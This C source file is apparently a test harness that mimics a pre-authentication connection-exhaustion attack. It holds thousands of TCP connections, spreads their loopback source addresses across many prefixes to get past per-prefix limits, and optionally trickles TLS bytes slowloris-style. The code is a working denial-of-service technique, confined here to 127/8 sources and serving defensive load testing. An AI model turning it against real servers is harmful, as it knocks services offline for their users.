// SPDX-License-Identifier: GPL-2.0
/*
 * Open many TCP connections to one server and hold them: the idle and
 * slowloris clients of a pre-authentication exhaustion attack.  Sources
 * are spread over P /24 prefixes of 127/8 (127.(10+i/256).(i%256).h), so
 * a per-prefix limit sees P attackers.  With -s MS, every connection
 * sends one byte of a TLS record every MS ms (slowloris).  Runs until
 * SIGTERM/SIGINT; prints "opened N of M" once all connects are done.
 *
 *   tcp_hold -d 127.0.0.1:PORT -n 20000 [-p 100] [-s 500]
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static volatile sig_atomic_t stop;

static void on_signal(int sig)
{
	(void)sig;
	stop = 1;
}

int main(int argc, char **argv)
{
	struct sockaddr_in dst = { .sin_family = AF_INET };
	unsigned long n = 0, prefixes = 100, slow_ms = 0, opened = 0;
	char host[64] = "", *colon;
	struct rlimit rl;
	int *fds, o;

	while ((o = getopt(argc, argv, "d:n:p:s:")) != -1) {
		switch (o) {
		case 'd':
			snprintf(host, sizeof(host), "%s", optarg);
			break;
		case 'n':
			n = strtoul(optarg, NULL, 10);
			break;
		case 'p':
			prefixes = strtoul(optarg, NULL, 10);
			break;
		case 's':
			slow_ms = strtoul(optarg, NULL, 10);
			break;
		default:
			goto usage;
		}
	}
	colon = strrchr(host, ':');
	if (!n || !prefixes || prefixes > 60000 || !colon)
		goto usage;
	*colon = '\0';
	if (inet_pton(AF_INET, host, &dst.sin_addr) != 1)
		goto usage;
	dst.sin_port = htons((uint16_t)atoi(colon + 1));

	/* As many as the hard limit allows, beyond it if privileged. */
	rl.rlim_cur = rl.rlim_max = n + 64;
	if (setrlimit(RLIMIT_NOFILE, &rl)) {
		getrlimit(RLIMIT_NOFILE, &rl);
		rl.rlim_cur = rl.rlim_max;
		setrlimit(RLIMIT_NOFILE, &rl);
	}
	fds = calloc(n, sizeof(*fds));
	if (!fds)
		return 1;
	signal(SIGTERM, on_signal);
	signal(SIGINT, on_signal);
	signal(SIGPIPE, SIG_IGN);

	for (unsigned long i = 0; i < n && !stop; i++) {
		unsigned long p = i % prefixes, h = (i / prefixes) % 254 + 1;
		struct sockaddr_in src = { .sin_family = AF_INET };
		int one = 1;

		src.sin_addr.s_addr = htonl(127u << 24 | (uint32_t)(10 + p / 256) << 16 |
					    (uint32_t)(p % 256) << 8 | (uint32_t)h);
		fds[i] = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
		if (fds[i] < 0)
			continue;
		setsockopt(fds[i], SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
		if (bind(fds[i], (struct sockaddr *)&src, sizeof(src)) ||
		    (connect(fds[i], (struct sockaddr *)&dst, sizeof(dst)) &&
		     errno != EINPROGRESS)) {
			close(fds[i]);
			fds[i] = -1;
			continue;
		}
		opened++;
	}
	printf("opened %lu of %lu\n", opened, n);
	fflush(stdout);
	while (!stop) {
		struct timespec ts = { .tv_sec = (time_t)(slow_ms ? slow_ms : 1000) / 1000,
				       .tv_nsec = (long)((slow_ms ? slow_ms : 1000) % 1000) * 1000000 };

		nanosleep(&ts, NULL);
		if (!slow_ms)
			continue;
		/* A TLS handshake record, one byte at a time, never finished. */
		for (unsigned long i = 0; i < n; i++)
			if (fds[i] >= 0 && send(fds[i], "\x16", 1, MSG_NOSIGNAL) < 0 &&
			    errno != EAGAIN) {
				close(fds[i]);
				fds[i] = -1;
			}
	}
	return 0;
usage:
	fprintf(stderr, "usage: tcp_hold -d ADDR:PORT -n N [-p PREFIXES] [-s MS]\n");
	return 2;
}
